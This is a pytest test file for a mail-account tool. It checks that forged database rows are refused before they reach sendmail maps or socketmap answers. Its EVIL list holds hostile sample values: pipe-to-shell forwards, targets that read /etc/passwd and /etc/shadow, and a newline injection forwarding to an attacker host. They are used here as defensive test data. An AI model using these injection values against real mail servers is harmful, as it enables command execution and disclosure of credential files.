"""Issue 14's threat model: a database row vmailctl never wrote (by hand, by another tool, by
an intruder) never becomes a sendmail map line or a socketmap answer.  The rows go in with raw
SQL, past vmailctl's validators, on SQLite and on PostgreSQL."""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.helpers import ROOT, world_tmpdir
from tests.pg import Cluster, pg_cluster  # noqa: F401 - fixture
from tests.socketmap_harness import Client, populate, running_server, server_log, write_config
from vdeliver.accounts.engines import open_store
from vdeliver.accounts.settings import load as load_settings
from vdeliver.config import load as load_config

pytestmark = pytest.mark.peers

EVIL = [
    ("forwards", "INSERT INTO forwards (username, domain, target) VALUES ('fred', 'away.com', ?)",
     '"|/bin/sh -c id"@away.com'),
    ("forwards", "INSERT INTO forwards (username, domain, target) VALUES ('fred', 'away.com', ?)",
     "/etc/passwd@away.com"),
    ("forwards", "INSERT INTO forwards (username, domain, target) VALUES ('fred', 'away.com', ?)",
     "x@y.com\nroot@away.com evil@attacker.example"),
    ("aliases", "INSERT INTO aliases (username, domain, target) VALUES ('info', 'away.com', ?)",
     ":include:/etc/shadow@x.com"),
    ("domains", "UPDATE domains SET catchall = ? WHERE name = 'home.com'", "|cat@x.com"),
    ("mailboxes", "UPDATE mailboxes SET username = ? WHERE username = 'fred' AND domain = 'home.com'",
     "a b"),
]


@pytest.fixture
def base() -> Iterator[Path]:
    path = world_tmpdir("vdeliver-rows-")
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(params=["sqlite", "pgsql"])
def config(request: pytest.FixtureRequest, base: Path) -> Path:
    if request.param == "sqlite":
        cfg = write_config(base, f'database = "{base}/accounts.sqlite"')
    else:
        cluster: Cluster = request.getfixturevalue("pg_cluster")
        cfg = write_config(base, f'dsn = "{cluster.create_database("rows")}"')
    populate(cfg)
    return cfg


def _raw(config: Path, sql: str, value: str) -> None:
    with open_store(load_settings(load_config(str(config)))) as store, store.transaction():
        store.execute(sql, (value,))


def vmailctl(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "vdeliver.accounts.vmailctl", "-c", str(config), *args],
                          capture_output=True, text=True, cwd=str(ROOT), timeout=60)


@pytest.mark.parametrize("case", range(len(EVIL)))
def test_forged_row_never_reaches_the_maps(config: Path, case: int) -> None:
    assert vmailctl(config, "maps", "build").returncode == 0
    maps_dir = config.parent / "maps"
    before = {f.name: f.read_bytes() for f in maps_dir.iterdir() if f.is_file() and not f.name.startswith(".")}
    _table, sql, value = EVIL[case]
    _raw(config, sql, value)
    out = vmailctl(config, "maps", "build")
    assert out.returncode == 1, out
    lines = out.stderr.strip().splitlines()
    assert len(lines) == 1 and "refusing database row" in lines[0], out.stderr
    after = {f.name: f.read_bytes() for f in maps_dir.iterdir() if f.is_file() and not f.name.startswith(".")}
    assert after == before  # the previous maps stay


def test_forged_row_gets_temp_from_the_socketmap(config: Path) -> None:
    _raw(config, EVIL[0][1], EVIL[0][2])
    with running_server(config):
        c = Client(str(config.parent / "in.sock"))
        assert c.ask("virtuser", "fred@away.com").status == "TEMP"  # its answer needs the bad row
        assert c.ask("virtuser", "wilma@home.com").status == "OK"   # other keys are not held up
        c.close()
    log = server_log(config)
    assert "refusing database row forwards.target" in log
    assert "Traceback" not in log


def test_check_reports_stored_reserved_names(config: Path) -> None:
    """A `fred.lock` stored before vmailctl refused such names: `check` names it."""
    _raw(config, "INSERT INTO mailboxes (username, domain, format, created_at) VALUES (?, 'away.com', 'mbox', 'x')",
         "fred.lock")
    out = vmailctl(config, "check")
    assert out.returncode == 1
    assert "fred.lock@away.com: names ending in '.lock' are reserved" in out.stdout, out.stdout
